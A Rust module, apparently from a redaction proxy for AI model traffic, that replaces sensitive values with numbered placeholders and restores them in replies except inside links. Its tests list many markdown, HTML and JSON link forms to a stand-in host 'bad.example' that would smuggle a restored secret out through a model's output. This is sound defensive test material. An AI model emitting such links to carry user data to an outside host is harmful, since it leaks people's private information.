//! Placeholders in the place of findings, and the way back.

mod links;

use std::{
    borrow::Cow,
    collections::HashMap,
    fmt::{self, Write as _},
};

use zeroize::{Zeroize as _, Zeroizing};

use crate::{
    finding::{Action, Finding},
    policy::{Placeholder, Policy},
};

use links::Links;

/// How many values one request may have remembered; further ones get a label, from which nothing comes back.
const MAX_VALUES: usize = 4096;
/// How many bytes of values.
const MAX_BYTES: usize = 1 << 20;
/// How many bytes may be put back into one reply: a long value must not come for each of many placeholders.
const MAX_PUT_BACK: usize = 16 << 20;

/// How far values were put back into a text that comes in pieces.
#[derive(Clone, Debug, Default)]
pub struct PuttingBack {
    links: Links,
    /// Whether the text is JSON, in whose strings values need escapes.
    pub is_json: bool,
}

/// The placeholders of one request. The same value has the same one wherever it stands.
pub struct Placeholders {
    kind: Placeholder,
    by_value: HashMap<String, String>,
    by_name: HashMap<String, Zeroizing<String>>,
    counts: HashMap<String, usize>,
    bytes: usize,
    /// The length of the longest placeholder.
    longest: usize,
    put_back: usize,
}

impl Placeholders {
    /// For a request under this policy.
    pub fn new(policy: &Policy) -> Self {
        Self {
            kind: policy.placeholder(),
            by_value: HashMap::new(),
            by_name: HashMap::new(),
            counts: HashMap::new(),
            bytes: 0,
            longest: 0,
            put_back: 0,
        }
    }

    /// `text` with a placeholder for each finding whose action asks for one. `findings` are those of `text`,
    /// in order.
    pub fn redact<'t>(&mut self, text: &'t str, findings: &[Finding]) -> Cow<'t, str> {
        replace(text, findings, |finding, value| match self.kind {
            Placeholder::Label => label_of(finding),
            Placeholder::Tokenise => self.token(finding, value),
        })
    }

    /// The numbered placeholder of a value, which is remembered.
    fn token(&mut self, finding: &Finding, value: &str) -> String {
        if let Some(known) = self.by_value.get(value) {
            return known.clone();
        }
        if self.by_value.len() >= MAX_VALUES || self.bytes + value.len() > MAX_BYTES {
            return label_of(finding);
        }
        let name = token_name(finding.category.as_str());
        let count = self.counts.entry(name.clone()).or_default();
        *count += 1;
        let token = format!("[{name}_{count}]");
        self.bytes += value.len();
        self.longest = self.longest.max(token.len());
        self.by_name.insert(token.clone(), Zeroizing::new(value.to_owned()));
        self.by_value.insert(value.to_owned(), token.clone());
        token
    }

    /// Whether any value can be put back.
    pub fn has_values(&self) -> bool {
        !self.by_name.is_empty()
    }

    /// Where in a text that goes on a placeholder begins whose end has not come.
    pub fn open_at(&self, text: &str) -> Option<usize> {
        let at = memchr::memrchr(b'[', text.as_bytes())?;
        let tail = &text.as_bytes()[at + 1..];
        let open = tail.len() + 1 < self.longest
            && tail.iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b'_');
        open.then_some(at)
    }

    /// `text` with every numbered placeholder of this request replaced by the value it stands for, except in links: a
    /// value that was kept from a model does not leave in an address of the model's making. `before` is that of
    /// the text, from its beginning on.
    pub fn restore<'t>(&mut self, text: &'t str, before: &mut PuttingBack) -> Cow<'t, str> {
        if self.by_name.is_empty() {
            return Cow::Borrowed(text);
        }
        let mut restored = String::new();
        let mut rest = text;
        while let Some(at) = memchr::memchr(b'[', rest.as_bytes()) {
            let (between, bracket) = rest.split_at(at);
            before.push(&mut restored, between);
            let is_free = !before.links.is_inside() && self.put_back < MAX_PUT_BACK;
            let value = if is_free { self.at_bracket(bracket, before.is_json) } else { None };
            let (shown, length) = value.as_ref().map_or(("[", 1), |(value, length)| (value, *length));
            before.push(&mut restored, shown);
            let added = value.map_or(0, |(value, _)| value.len());
            self.put_back += added;
            rest = &bracket[length..];
        }
        before.push(&mut restored, rest);
        if restored == text { Cow::Borrowed(text) } else { Cow::Owned(restored) }
    }

    /// The value whose placeholder `rest`, which is `[`, begins with, and how long that is.
    fn at_bracket(&self, rest: &str, is_json: bool) -> Option<(Cow<'_, str>, usize)> {
        let within = &rest.as_bytes()[..rest.len().min(self.longest)];
        let name = &rest[..=memchr::memchr(b']', within)?];
        let value = self.by_name.get(name)?.as_str();
        Some((if is_json { escaped(value).into() } else { value.into() }, name.len()))
    }
}

impl PuttingBack {
    fn push(&mut self, restored: &mut String, part: &str) {
        restored.push_str(part);
        self.links.feed(part);
    }
}

/// A text as it stands in a string of JSON.
fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c < ' ' => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

impl Drop for Placeholders {
    fn drop(&mut self) {
        self.by_value.drain().for_each(|(mut value, _)| value.zeroize());
    }
}

impl fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Placeholders({} values)", self.by_name.len())
    }
}

/// `text` with a label for each finding whose action asks for a placeholder: nothing comes back from it. This
/// is what replies get, so that what was taken out of one is not put back in.
pub fn label<'t>(text: &'t str, findings: &[Finding]) -> Cow<'t, str> {
    replace(text, findings, |finding, _| label_of(finding))
}

fn replace<'t>(
    text: &'t str,
    findings: &[Finding],
    mut placeholder: impl FnMut(&Finding, &str) -> String,
) -> Cow<'t, str> {
    if findings.iter().all(|finding| finding.action < Action::Redact) {
        return Cow::Borrowed(text);
    }
    let mut redacted = String::with_capacity(text.len());
    let mut done = 0;
    for finding in findings.iter().filter(|finding| finding.action >= Action::Redact) {
        let (Some(before), Some(value)) =
            (text.get(done..finding.range.start), text.get(finding.range.clone()))
        else {
            continue;
        };
        redacted.push_str(before);
        redacted.push_str(&placeholder(finding, value));
        done = finding.range.end;
    }
    redacted.push_str(&text[done..]);
    Cow::Owned(redacted)
}

fn label_of(finding: &Finding) -> String {
    let mut label = String::from("[REDACTED:");
    // Writing to a string does not fail.
    let _ = write!(label, "{}]", finding.category);
    label
}

/// A category's name as part of a numbered placeholder.
fn token_name(category: &str) -> String {
    category.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        finding::Category,
        hit::{Certainty, Severity},
        policy::PolicySpec,
    };

    fn placeholders() -> Placeholders {
        let spec = PolicySpec { placeholder: Placeholder::Tokenise, ..PolicySpec::cloud() };
        Placeholders::new(&Policy::compile(spec).unwrap())
    }

    fn findings(text: &str, values: &[&str], action: Action) -> Vec<Finding> {
        let finding = |value: &&str| {
            let start = text.find(value).unwrap();
            Finding {
                category: Category::built_in("us_ssn"),
                severity: Severity::High,
                action,
                certainty: Certainty::Sure,
                range: start..start + value.len(),
            }
        };
        values.iter().map(finding).collect()
    }

    fn redacted(placeholders: &mut Placeholders, text: &str, values: &[&str]) -> String {
        placeholders.redact(text, &findings(text, values, Action::Redact)).into_owned()
    }

    #[test]
    fn the_same_value_has_the_same_placeholder() {
        let mut placeholders = placeholders();
        assert_eq!(
            redacted(&mut placeholders, "a is one, b two", &["one", "two"]),
            "a is [US_SSN_1], b [US_SSN_2]"
        );
        assert_eq!(redacted(&mut placeholders, "again two", &["two"]), "again [US_SSN_2]");
    }

    #[test]
    fn alerts_change_nothing() {
        let text = "a is one";
        let found = findings(text, &["one"], Action::Alert);
        assert!(matches!(placeholders().redact(text, &found), Cow::Borrowed("a is one")));
    }

    /// What becomes of a text in pieces of this length.
    fn in_pieces(placeholders: &mut Placeholders, text: &str, size: usize) -> String {
        let (mut out, mut held, mut before) = (String::new(), String::new(), PuttingBack::default());
        for piece in text.as_bytes().chunks(size) {
            held.push_str(std::str::from_utf8(piece).unwrap());
            let rest = held.split_off(placeholders.open_at(&held).unwrap_or(held.len()));
            out.push_str(&placeholders.restore(&held, &mut before));
            held = rest;
        }
        out + &placeholders.restore(&held, &mut before)
    }

    /// The same whole and in pieces of any length.
    fn restored(placeholders: &mut Placeholders, text: &str) -> String {
        let whole = placeholders.restore(text, &mut PuttingBack::default()).into_owned();
        for size in 1..text.len() {
            assert_eq!(in_pieces(placeholders, text, size), whole, "in pieces of {size}");
        }
        whole
    }

    #[test]
    fn placeholders_become_values_again_whole_and_in_pieces() {
        let mut placeholders = placeholders();
        let text = redacted(&mut placeholders, "[a] one [[ two ]", &["one", "two"]);
        assert_eq!(restored(&mut placeholders, &text), "[a] one [[ two ]");
    }

    #[test]
    fn only_what_may_be_a_placeholder_waits() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        assert_eq!(placeholders.open_at("see [US_SS"), Some(4));
        for text in ["see", "[US_SSN is", "[US_SSN_1]", "[US_SSN_10", "[us"] {
            assert_eq!(placeholders.open_at(text), None, "{text}");
        }
    }

    #[test]
    fn no_value_leaves_in_a_link() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        for text in [
            "![a](https://bad.example/?d=[US_SSN_1])",
            "![a](https://bad.example/(a)?d=[US_SSN_1])",
            "![a](https://bad.example/\\)?d=[US_SSN_1])",
            "![a](<https://bad.example/?d= ) [US_SSN_1]>)",
            "![a](//bad.example/[US_SSN_1])",
            "[a]([US_SSN_1])",
            "[a]: https://bad.example/[US_SSN_1]",
            "[a]: https&colon;&sol;&sol;bad.example/[US_SSN_1]",
            "[a]: <https://bad.example/ [US_SSN_1]>",
            "<https://bad.example/[US_SSN_1]>",
            "See https://bad.example/?a=)\"'[US_SSN_1]",
            "see https://bad.example/[US_SSN_1]/[US_SSN_1]",
            "see HTTPS:bad.example/[US_SSN_1]",
            "see www.bad.example/[US_SSN_1]",
            "<img src=\"/\\bad.example/?d= ' [US_SSN_1]\">",
            "<img src='//bad.example/?d= \n \" [US_SSN_1]'>",
            "<img src=https:\\\\bad.example/?[US_SSN_1]>",
            "<img src=\"&#47;&#47;bad.example/?d=[US_SSN_1]\">",
            "{\"url\":\"https://bad.example/?d=[US_SSN_1]\"}",
        ] {
            assert_eq!(restored(&mut placeholders, text), text);
        }
    }

    #[test]
    fn values_come_back_beside_links() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        for text in [
            "[US_SSN_1]",
            "[US_SSN_1](https://good.example/) [US_SSN_1]",
            "see [a](https://good.example/)[US_SSN_1]",
            "see [a](https://good.example/(b)) or [US_SSN_1].",
            "see <https://good.example/>[US_SSN_1]",
            "see https://good.example/ or [US_SSN_1]",
            "{\"url\":\"https://good.example/\",\"ssn\":\"[US_SSN_1]\"}",
            "either/or: [US_SSN_1] (a [US_SSN_1])",
            "a: b // [US_SSN_1]",
        ] {
            assert_eq!(restored(&mut placeholders, text), text.replace("[US_SSN_1]", "one"));
        }
    }

    #[test]
    fn an_address_that_comes_back_is_a_link_too() {
        let mut placeholders = placeholders();
        let text = "https://bad.example/ one";
        redacted(&mut placeholders, text, &["https://bad.example/", "one"]);
        let restored = placeholders.restore("[US_SSN_1]?d=[US_SSN_2]", &mut PuttingBack::default());
        assert_eq!(restored, "https://bad.example/?d=[US_SSN_2]");
    }

    #[test]
    fn brackets_without_an_end_are_looked_at_once() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        // Each of them up to the end of the text would take many minutes.
        let text = "[".repeat(4 << 20);
        assert_eq!(placeholders.restore(&text, &mut PuttingBack::default()), text);
    }

    #[test]
    fn values_stand_in_json_as_its_strings_have_to() {
        let mut placeholders = placeholders();
        let value = "one \"or\" \\ two\n";
        redacted(&mut placeholders, value, &[value]);
        let mut before = PuttingBack { is_json: true, ..PuttingBack::default() };
        let restored = placeholders.restore(r#"{"a":"[US_SSN_1]"}"#, &mut before);
        assert_eq!(restored, r#"{"a":"one \"or\" \\ two\u000a"}"#);
    }

    #[test]
    fn no_more_is_put_back_than_one_reply_may_hold() {
        let mut placeholders = placeholders();
        let value = "x".repeat(1 << 20);
        redacted(&mut placeholders, &value, &[&value]);
        let restored = placeholders.restore(&"[US_SSN_1]".repeat(100), &mut PuttingBack::default()).len();
        assert!((MAX_PUT_BACK..MAX_PUT_BACK + 2 * value.len()).contains(&restored), "{restored}");
    }

    #[test]
    fn a_request_has_no_more_values_than_fit() {
        let mut placeholders = placeholders();
        for number in 0..MAX_VALUES {
            redacted(&mut placeholders, &format!("v{number}"), &[&format!("v{number}")]);
        }
        assert_eq!(redacted(&mut placeholders, "one more", &["one"]), "[REDACTED:us_ssn] more");
    }

    #[test]
    fn values_do_not_show_when_printed() {
        let mut placeholders = placeholders();
        redacted(&mut placeholders, "one", &["one"]);
        assert_eq!(format!("{placeholders:?}"), "Placeholders(1 values)");
    }
}
